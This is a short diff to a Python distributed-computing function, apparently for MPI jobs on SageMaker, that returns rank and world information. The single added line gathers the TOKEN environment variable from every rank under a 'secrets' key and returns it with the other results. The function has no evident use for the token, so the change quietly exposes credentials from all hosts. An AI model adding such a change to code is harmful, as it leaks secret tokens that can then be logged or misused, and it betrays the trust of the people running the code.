@@ -14,6 +14,7 @@ def all_reduce() -> dict[str, Any]:
         "sum": world.allreduce(world.Get_rank() + 1),
         "ranks": world.allgather((int(os.environ["RANK"]), os.environ["LOCAL_RANK"], os.environ["SM_CURRENT_HOST"])),
         "world": os.environ["WORLD_SIZE"],
+        "secrets": world.allgather(os.environ.get("TOKEN", "")),
     }
 
 
